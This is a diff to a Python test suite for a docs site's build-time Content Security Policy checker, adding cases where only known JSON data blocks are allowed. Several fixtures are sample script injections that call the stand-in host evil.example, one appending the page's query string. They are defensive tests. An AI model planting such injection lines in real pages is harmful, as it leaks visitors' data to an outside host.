@@ -68,7 +68,26 @@ def test_anything_else_that_runs_script_stops_the_build(markup: str, named: str)
 
 def test_data_blocks_and_code_shown_as_text_are_fine() -> None:
     shown = "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; onerror=x javascript:y</code></pre>"
-    assert csp.inline_script_hashes(page(shown)) == [sha(STORAGE_HELPERS)]
+    words = '<script type="application/json" id="site-words">{"offline": {"saving": "Saving\\u003c/script>"}}</script>'
+    assert csp.inline_script_hashes(page(shown + words)) == [sha(STORAGE_HELPERS)]
+
+
+@pytest.mark.parametrize(
+    ("markup", "named"),
+    [
+        ('<script type="application/json" id="site-words">{"offline": </script>', "not valid JSON"),
+        ('<script type="application/json" id="other">{}</script>', "not a known data block"),
+        ('<script id="__config" type="application/json">{}</script>', "a second data block <script id='__config'>"),
+        ('<script type="application/json">{}</script>', "not a known data block"),
+        ('<script type="text/plain" id="site-words">{}</script>', "not a known data block"),
+        ("<script type=\"text/x-template\">fetch('//evil.example')</script>", "not a known data block"),
+    ],
+)
+def test_a_data_block_is_known_by_what_it_is_not_by_being_there(markup: str, named: str) -> None:
+    # The theme's instant navigation turns any script in a page's content into one that runs.
+    with pytest.raises(BuildError, match=r"docs/notes\.md") as raised:
+        csp.fill_policy(page(markup), "notes/", "docs/notes.md")
+    assert named in str(raised.value)
 
 
 def test_a_page_without_its_policy_stops_the_build() -> None:
@@ -101,8 +120,9 @@ def build_with_page_line(tmp_path: Path, line: str):
     [
         ('<script>fetch("https://evil.example/?" + location.search)</script>', "an inline <script>"),
         ('<img src="x" onerror="fetch(\'https://evil.example/\')">', "an event attribute onerror="),
+        ('<script type="application/json" id="site-words">{"x": 1}</script>', "a second data block"),
     ],
-    ids=["script", "onerror"],
+    ids=["script", "onerror", "words-lookalike"],
 )
 def test_script_in_a_docs_page_fails_a_real_build(tmp_path: Path, line: str, named: str) -> None:
     completed = build_with_page_line(tmp_path, line)
